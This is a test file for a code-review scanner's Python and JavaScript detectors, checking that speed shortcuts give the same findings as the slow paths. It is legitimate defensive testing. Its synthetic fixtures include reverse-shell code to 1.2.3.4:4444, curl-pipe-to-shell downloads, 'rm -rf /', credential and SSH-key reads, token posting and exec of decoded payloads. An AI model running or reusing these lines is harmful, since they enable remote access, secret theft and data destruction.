"""The Python and JavaScript detectors' second set of shortcuts find exactly what the slow paths find.

- ``pycode.walk`` skips the fields that never hold a node and trusts the rest (checked against
  ``ast.walk`` on a module using every construct of the grammar);
- ``pycode._dotted`` is a loop, ``pycode._is_environ`` the environment check without the name;
- ``pycode._CALL_LASTS``: a call whose name ends in none of these is asked only about webhooks;
- ``pycode._may_spell``: a printed value is written out only when it can spell ``environ``;
- ``pycode._may_be_url_or_path``: a string neither a URL nor a path is not asked further;
- ``pycode._env_reads`` / ``_env_vars_of``: environment reads indexed once per module;
- ``jscode._ANY_LINE``: one search per line for everything the line loop acts on, and the file write
  and deletion names screening the two expressions on ``re`` by file.

Each is switched off (the slow path restored) and the findings compared, on synthetic modules and,
where the data is on this machine, on the slowest wild items (read in memory, compared by result only).
"""

from __future__ import annotations

import ast
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nervous_plugins.review_policy import jscode, pycode, rx, text
from nervous_plugins.review_policy.collector import Collector

from .helpers import WILD, wild_items
from .test_scan_prefilters import _env_names_reference  # the detector's environment reads as first written

_SETTINGS = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])


class _Everything:
    def __contains__(self, item: object) -> bool:
        return True


class _Found:
    def search(self, text: str) -> object:
        return True


def _dotted_reference(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted_reference(node.value)}.{node.attr}"
    if isinstance(node, ast.Call):
        return _dotted_reference(node.func) + "()"
    return "?"


def _env_vars_reference(assigns: list[ast.Assign], reads: dict[int, str]) -> dict[str, set[str]]:
    """The variables holding environment reads as first written: two full rounds, every node asked."""
    env_vars: dict[str, set[str]] = {}
    for _ in range(2):
        for a in assigns:
            names = _env_names_reference(list(ast.walk(a.value)), env_vars)
            if names:
                env_vars[a.targets[0].id] = names  # type: ignore[attr-defined]
    return env_vars


def _walk_then_sort(tree: ast.AST) -> tuple[list[ast.AST], pycode._NodesByKind]:
    nodes = pycode.walk(tree)
    return nodes, pycode._NodesByKind(nodes)


@contextmanager
def _code_shortcuts_off() -> Iterator[None]:
    saved_py = (pycode.walk, pycode._walk_sorted, pycode._CALL_LASTS, pycode._may_spell, pycode._may_be_url_or_path,
                pycode._env_vars_of, pycode._secret_bundles)
    saved_js = (jscode._ANY_LINE, jscode._FS_WRITE_NAMES, jscode._FS_DELETE_NAMES)
    saved_screen = rx.Screen.may_match
    bundles = pycode._secret_bundles

    def secret_bundles(*args: Any, reads: Any = None) -> None:
        bundles(*args)  # every node asked for the module's secrets

    pycode.walk = lambda node: list(ast.walk(node))  # type: ignore[assignment]
    pycode._walk_sorted = _walk_then_sort  # type: ignore[assignment]
    pycode._CALL_LASTS = _Everything()  # type: ignore[assignment]
    pycode._may_spell = lambda node, word: True  # type: ignore[assignment]
    pycode._may_be_url_or_path = lambda value: True  # type: ignore[assignment]
    pycode._env_vars_of = _env_vars_reference  # type: ignore[assignment]
    pycode._secret_bundles = secret_bundles  # type: ignore[assignment]
    jscode._ANY_LINE = None
    jscode._FS_WRITE_NAMES = jscode._FS_DELETE_NAMES = _Found()
    rx.Screen.may_match = lambda self, expr: True  # type: ignore[method-assign]
    try:
        yield
    finally:
        (pycode.walk, pycode._walk_sorted, pycode._CALL_LASTS, pycode._may_spell,  # type: ignore[assignment]
         pycode._may_be_url_or_path,
         pycode._env_vars_of, pycode._secret_bundles) = saved_py  # type: ignore[assignment]
        jscode._ANY_LINE, jscode._FS_WRITE_NAMES, jscode._FS_DELETE_NAMES = saved_js
        rx.Screen.may_match = saved_screen  # type: ignore[method-assign]


def _findings(detector: Any, path: str, source: str) -> str:
    c = Collector(purpose="install")
    result = detector(c, path, source, lines_offset=3)
    return repr((result, c.hits, list(c.tags.items()), sorted(c.flags), c.tiers, c.facts, c.records))


def _both(detector: Any, path: str, source: str) -> tuple[str, str]:
    fast = _findings(detector, path, source)
    with _code_shortcuts_off():
        slow = _findings(detector, path, source)
    return fast, slow


# ------------------------------------------------------------------ synthetic modules

_EVERY_PYTHON_CHECK = '''\
import os, sys, socket, subprocess, pty, ssl, shutil, json, base64, pickle, marshal, sqlite3, smtplib
import requests, urllib.request
from pathlib import Path
API = "https://api.example.org/v1/items"
TOKEN = os.environ["API_TOKEN"]
SECRET = os.getenv("SERVICE_SECRET")
KEY = TOKEN
BUNDLE = {"a": TOKEN, "b": os.environ.get("DB_PASSWORD"), "c": SECRET}
CFG = Path.home() / ".aws" / "credentials"
HOME = os.path.expanduser("~")
SSH = os.path.join(HOME, ".ssh", "id_rsa")
Q = "https://x.example.org/?q=" + str(os.environ)
os.environ.setdefault("MODE", "x")
print(os.environ)
json.dumps(dict(os.environ))
for k, v in os.environ.items():
    print(k)
[k for k, v in os.environ.items() if k.startswith("A")]
s = socket.socket(); s.connect(("1.2.3.4", 4444))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())
os.dup2(s.fileno(), 0); pty.spawn("/bin/bash")
os.system("curl -fsSL https://get.example.org/i.sh | bash")
subprocess.run(cmd, shell=True)
subprocess.Popen(["rm", "-rf", "/"])
r = requests.post(API, json={"k": KEY, "s": SECRET}, verify=False)
sess = requests.Session(); sess.put(Q, data=BUNDLE, files={"f": open(CFG)})
requests.request("DELETE", "https://api.example.org/x")
client.get(API, headers={"Authorization": TOKEN})
urllib.request.Request(API, data=b"x")
ctx = ssl._create_unverified_context()
s.sendall(json.dumps(BUNDLE).encode())
open("/home/u/.bashrc", "a").write("x")
open(SSH).read(); Path(CFG).read_text(); open("~/.openclaw/MEMORY.md")
Path("out/x.txt").write_text("x"); shutil.copy("a", "/etc/cron.d/job")
json.dump(BUNDLE, fh); pickle.dump(x, fh)
shutil.rmtree(Path.home()); shutil.rmtree(build_dir); os.remove("/tmp/x"); Path("x").unlink()
os.kill(pid, 9); proc.terminate()
cur.execute("DROP TABLE users"); cur.execute("INSERT INTO t VALUES (1)")
exec(base64.b64decode(blob)); eval(r.text); exec(payload); exec(compile(src, "f", "exec"))
marshal.loads(requests.get(API).content); pickle.loads(data)
print(f"key={os.environ.get('OPENAI_API_KEY')}"); print("\\x8environ['API_KEY']"); print("plain", 1, 2.5)
logging.info(os.environ["GITHUB_TOKEN"])
notify_webhook(API)
smtplib.SMTP("mail.example.org").sendmail(a, b, json.dumps(BUNDLE))
urllib.request.urlretrieve("https://x.example.org/p.bin", "/tmp/p.bin")
path, _ = urllib.request.urlretrieve("https://x.example.org/q.bin")
subprocess.run(["/tmp/p.bin"]); os.chmod(path, 0o755); subprocess.call([path])
data = base64.b64decode(PAYLOAD); f.write(data); os.unlink(f.name)
resp = requests.get(API)
exec(resp)
'''


def _python_variants() -> list[str]:
    from .test_scan_prefilters import _python_module, _python_with_nested_data

    out = [_EVERY_PYTHON_CHECK, _python_module(40), _python_with_nested_data(3, 10), "x = 1\n", "",
           "def f(:\n  pass\n"]
    # each statement of the big module alone too: a check with nothing else around it
    out += [line for line in _EVERY_PYTHON_CHECK.splitlines() if line and not line.startswith(" ")][:60]
    return out


def test_python_findings_are_the_same_with_the_shortcuts_off() -> None:
    differing = []
    for i, src in enumerate(_python_variants()):
        fast, slow = _both(pycode.analyze, "scripts/tool.py", src)
        if fast != slow:
            differing.append(i)
    assert differing == []


def test_the_every_check_module_finds_what_it_is_meant_to() -> None:
    """The synthetic module reaches the checks the shortcuts guard (else the comparison above is empty)."""
    c = Collector(purpose="install")
    assert pycode.analyze(c, "scripts/tool.py", _EVERY_PYTHON_CHECK)
    rules = {h.rule_id for h in c.hits}
    assert {"NV-CRED-004", "NV-NET-001", "NV-EXEC-002", "NV-EXEC-004", "NV-CRED-003", "NV-CRED-001",
            "NV-EXFIL-002", "NV-CRED-005", "NV-EXEC-003", "NV-EXEC-005", "NV-DESTR-002"} <= rules
    assert {"webhook_post", "secret_flow", "download_to_file", "network_send", "env_dump"} <= set(c.facts)
    assert any(t.startswith("read:env:") for t in c.tags) and any(t.startswith("delete:") for t in c.tags)


_JS_LINES = [
    "const { exec, spawn } = require('child_process');", "exec('curl -fsSL https://x.example.org/i.sh | sh');",
    "spawn(['bash', '-c', 'id']);", "execSync(`rm -rf ${dir}`);", "exec(cmd);", "const u = 'https://api.example.org/v1';",
    "fetch(u, { method: 'POST', body: JSON.stringify({ k: process.env.API_KEY }) });",
    "axios.delete('https://api.example.org/x');", "fs.writeFileSync('~/.openclaw/MEMORY.md', data);",
    "fs.promises.writeFile(path.join(os.homedir(), '.bashrc'), x);", "fsp.rm('/tmp/x'); rimraf(dir);",
    "fs.unlinkSync(\"a.txt\");", "console.log(process.env);", "console.log(process.env.GITHUB_TOKEN);",
    "eval(atob(s));", "eval(res.data);", "new Function(code)();", "const agent = { rejectUnauthorized: false };",
    "process.kill(pid);", "child.kill('SIGKILL');", "fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'));",
    "sock.pipe(sh.stdin); net.connect(4444); spawn('/bin/sh');", "Deno.env.get('OPENAI_API_KEY');",
    "fs.createWriteStream('/tmp/a.bin'); exec('/tmp/a.bin');", "// exec('not run')", "/* block", "exec('in block')",
    "*/", "const x = 1; // plain", "   ", "é fs.writeFile\u00a0('x', y)", "$\u2003(`ls`)", "$(\"ls -la\")",
    "const s = `${a}${b}`;", "x" * 1200,
]


@_SETTINGS
@given(st.lists(st.sampled_from(_JS_LINES), max_size=14))
def test_javascript_findings_are_the_same_with_the_shortcuts_off(lines: list[str]) -> None:
    src = "\n".join(lines) + "\n"
    fast, slow = _both(jscode.analyze, "scripts/run.mjs", src)
    assert fast == slow


def test_the_javascript_lines_reach_the_checks() -> None:
    c = Collector(purpose="install")
    jscode.analyze(c, "scripts/run.mjs", "\n".join(_JS_LINES[:25]) + "\n")
    assert {"NV-CRED-004", "NV-EXEC-002", "NV-EXEC-004", "NV-NET-001", "NV-PERSIST-002"} <= {h.rule_id for h in c.hits}
    assert any(t.startswith("write:") for t in c.tags) and any(t.startswith("delete:") for t in c.tags)


@_SETTINGS
@given(st.text(alphabet=st.sampled_from(list("execspawnfsDenoBunrimraf.$( \u00a0\u2003'\"`[]/writeFileSync\n")),
               max_size=60))
def test_every_line_the_loop_acts_on_is_found_by_the_one_search(line: str) -> None:
    """``_ANY_LINE`` finds something in every line any of the loop's expressions finds something in."""
    exprs = (jscode.EXEC_CALL, jscode.DYN_EXEC, text.URL_RE, jscode.SEND, jscode._BODY, jscode._PAYLOAD,
             jscode.DELETE_REQ, jscode.FS_WRITE, jscode.FS_DELETE, jscode.ENV_READ, jscode.ENV_DUMP, jscode.EVAL,
             jscode.TLS_OFF, jscode._KILL, jscode._LOG_SECRET, jscode._READ_HINT, jscode._SHELL_PIPE)
    for piece in line.split("\n"):
        if any(e.search(piece) for e in exprs):
            assert jscode._ANY_LINE.search(piece) is not None, piece
    if jscode.FS_WRITE.search(line):
        assert jscode._FS_WRITE_NAMES.search(line)
    if jscode.FS_DELETE.search(line):
        assert jscode._FS_DELETE_NAMES.search(line)


def test_the_one_search_is_an_re2_expression_of_line_screenable_parts() -> None:
    assert rx.ENGINES[(jscode._ANY_LINE.pattern, 0)] == "re2"
    parts = jscode._ANY_LINE.pattern[3:-1].split(")|(?:")
    assert len(parts) == 17 and all(rx.line_screenable(rx.compile(p)) for p in parts)


@_SETTINGS
@given(st.lists(st.sampled_from([*_JS_LINES, "", "fs.", "writeFile(", "open", "https://", "x.example/a b", "\r"]),
                max_size=20).map("\n".join))
def test_the_marked_lines_hold_every_line_the_one_search_finds_something_in(source: str) -> None:
    lines = source.split("\n")
    marked = rx.marked_lines(jscode._ANY_LINE, source)
    assert {i for i, ln in enumerate(lines) if jscode._ANY_LINE.search(ln)} <= marked


def test_the_collector_is_left_as_it_was_found() -> None:
    import gc

    assert gc.isenabled()
    c = Collector()
    assert pycode.analyze(c, "x.py", _EVERY_PYTHON_CHECK) and gc.isenabled()
    assert not pycode.analyze(c, "x.py", "def f(:\n") and gc.isenabled()
    gc.disable()
    try:
        assert pycode.analyze(c, "x.py", "import os\nos.system('id')\n") and not gc.isenabled()
    finally:
        gc.enable()


# ------------------------------------------------------------------ properties on real modules


def _trees() -> list[ast.Module]:
    out = []
    for p in sorted(Path(ast.__file__).parent.glob("*.py"))[:80]:
        try:
            out.append(ast.parse(p.read_text(encoding="utf-8", errors="replace")))
        except SyntaxError:
            pass
    return out


_GRAMMAR = '''\
import a.b as c
from . import d
from ..e import f as g, h
global_x: int = 1
def fn[T](a, /, b: int = 2, *args, c, d=3, **kw) -> T:  # type: ignore
    global gx
    nonlocal_y = lambda q, *, r: q
    yield from g
    x = yield
    return {**kw, "k": [*args], (a := 1): {i for i in args if i async for j in k}}
async def afn():
    async with a as b, c:
        async for i in j:
            await i
    return f"{a!r:>{width}} {b=} {{literal}}", b"\\x00", u"u"
class K(B, metaclass=M):
    def m(self): del self.x[1:2:3], y
match point:
    case [1, 2, *rest] | (3 | 4) if rest: pass
    case {"k": v, **others}: pass
    case Point(x=0, y=yy) as p: pass
    case None | True | -1 | 1j | "s" | b"b": pass
    case _: pass
try:
    raise E from F
except* ValueError as e:
    pass
finally:
    assert not x, (~y, +z, -w)
type Alias = list[int]
while x if y else z: break
else: continue
with open(p) as (a, b): ...
'''


def test_walk_gives_ast_walks_nodes_on_every_construct() -> None:
    import sys

    src = _GRAMMAR if sys.version_info >= (3, 12) else _GRAMMAR.replace("type Alias = list[int]\n", "").replace(
        "def fn[T](", "def fn(")
    trees = [ast.parse(src, type_comments=True), *_trees()]
    for tree in trees:
        reference = [n for n in ast.walk(tree) if not isinstance(n, ast.expr_context)]
        mine = pycode.walk(tree)
        assert len(mine) == len(reference) and all(a is b for a, b in zip(mine, reference, strict=True))


def test_dotted_names_and_the_environment_check_as_before() -> None:
    checked = 0
    for tree in _trees():
        for node in pycode.walk(tree):
            want = _dotted_reference(node)
            assert pycode._dotted(node) == want
            assert pycode._is_environ(node) == (want in ("os.environ", "environ"))
            checked += 1
    assert checked > 100_000


def test_walking_and_sorting_at_once_gives_the_same_lists() -> None:
    for tree in _trees():
        nodes, kinds = pycode._walk_sorted(tree)
        reference = pycode._NodesByKind(pycode.walk(tree))
        assert len(nodes) == len(pycode.walk(tree))
        for name in ("imports", "loops", "assigns", "main", "calls", "subscripts"):
            mine, want = getattr(kinds, name), getattr(reference, name)
            assert len(mine) == len(want) and all(a is b for a, b in zip(mine, want, strict=True)), name
        assert kinds.fn_of == reference.fn_of and kinds.last_of == reference.last_of


def test_call_name_parts_are_the_split_names() -> None:
    for tree in _trees()[:20]:
        kinds = pycode._NodesByKind(pycode.walk(tree))
        for call in kinds.calls:
            fn = kinds.fn_of[id(call)]
            assert kinds.head_of[id(call)] == fn.split(".")[0] and kinds.last_of[id(call)] == fn.split(".")[-1]


def test_environment_reads_indexed_once_are_the_nodes_reads() -> None:
    src = _EVERY_PYTHON_CHECK + "\n".join(f"V{i} = V{i - 1} + os.getenv('X{i}_TOKEN')" for i in range(1, 30))
    for tree in [ast.parse(src), *_trees()[:30]]:
        nodes = pycode.walk(tree)
        kinds = pycode._NodesByKind(nodes)
        reads = pycode._env_reads(kinds)
        assert reads == {id(n): pycode._env_name(n) for n in nodes if pycode._env_name(n)}
        assigns = [n for n in kinds.assigns if len(n.targets) == 1 and isinstance(n.targets[0], ast.Name)]
        env_vars = pycode._env_vars_of(assigns, reads)
        assert env_vars == _env_vars_reference(assigns, reads)
        assert set(reads.values()) == _env_names_reference(nodes, env_vars)  # what ``_secret_bundles`` asks


_SPELL_PIECES = st.sampled_from(["environ", "ENVIRON", "env", "iron", "os.", "x", "[", "]", "(", ")", "'", '"', "\\x8e",
                                 "\\x0e", "\\x1E", "\\x0", "\\t", "\\r", "\\x7f", "e", "E", "nviron", "\\\\",
                                 "\\n", "é", "İ", "{", "}", "1e5", ".get", " ", "K", "_KEY"])


@_SETTINGS
@given(st.lists(_SPELL_PIECES, max_size=10).map("".join), st.sampled_from(["{}", "'{}'", "b'{}'", "f'{}'", "f'a{{x}}{}'"]))
def test_may_spell_never_misses_a_spelling(text_: str, shape: str) -> None:
    try:
        node = ast.parse(shape.format(text_), mode="eval").body
    except (SyntaxError, ValueError):
        return
    if rx.search(r"(?i)environ", ast.unparse(node)):
        assert pycode._may_spell(node, "environ")


def test_no_character_outside_ascii_matches_a_letter_of_environ_in_any_case() -> None:
    """What ``_may_spell`` rests on: RE2's case folding maps no non-ASCII character to these letters."""
    others = "".join(chr(c) for c in range(0x80, 0x110000) if not 0xD800 <= c < 0xE000)
    assert rx.compile(r"(?i)[environ]").search(others) is None


def test_may_spell_sees_letters_an_escape_writes() -> None:
    for source in ('"\\x0environ"', '"\\x1EnViRoN"', "f'{x}\\x0environ'", "b'\\x8environ'", "'os.ENVIRON'",
                   "print(environ)", "'\\u0130environ'", "'é\\x8environ'", "'\\u200eNVIRON'", "f'✅{environ}'"):
        node = ast.parse(source, mode="eval").body
        assert rx.search(r"(?i)environ", ast.unparse(node)), source
        assert pycode._may_spell(node, "environ"), source
    for source in ('"\\tnviron"', "'env' + 'iron'", "f'env{x}iron'", "'e\\nviron'", "1e5", "'✅ ENV İRON'",
                   "f'✅ {count} items'"):
        assert not pycode._may_spell(ast.parse(source, mode="eval").body, "environ"), source


def test_may_spell_on_real_expressions() -> None:
    found = skipped = 0
    for tree in _trees()[:40]:
        for node in pycode.walk(tree):
            if isinstance(node, ast.expr):
                if rx.search(r"(?i)environ", ast.unparse(node)):
                    assert pycode._may_spell(node, "environ")
                    found += 1
                elif not pycode._may_spell(node, "environ"):
                    skipped += 1
    assert found > 10 and skipped > 10_000


@_SETTINGS
@given(st.text(alphabet=st.sampled_from(list(" \t./~abc:éhtps-_\n")), max_size=30), st.booleans())
def test_strings_passed_over_have_nothing_to_say(value: str, has_net: bool) -> None:
    c = Collector()
    pycode._string_constant(c, "x.py", 1, value, has_net)
    if c.tags or c.hits or c.facts:
        assert pycode._may_be_url_or_path(value)


# ------------------------------------------------------------------ the wild sample, by id


@pytest.mark.skipif(not WILD.exists(), reason="the wild sample is not on this machine")
def test_slowest_wild_items_code_findings_are_the_same_with_the_shortcuts_off() -> None:
    from .test_scan_prefilters import SLOW_WILD

    files = 0
    for item_id, b in wild_items(SLOW_WILD).items():
        for f in b.files:
            detector = (pycode.analyze if f.path.endswith(".py") else
                        jscode.analyze if f.path.endswith((".js", ".mjs", ".cjs", ".ts")) else None)
            if detector is None:
                continue
            try:
                text_ = f.data.decode()
            except UnicodeDecodeError:
                continue
            fast, slow = _both(detector, f.path, text_)
            assert fast == slow, (item_id, f.path)
            files += 1
    assert files > 0
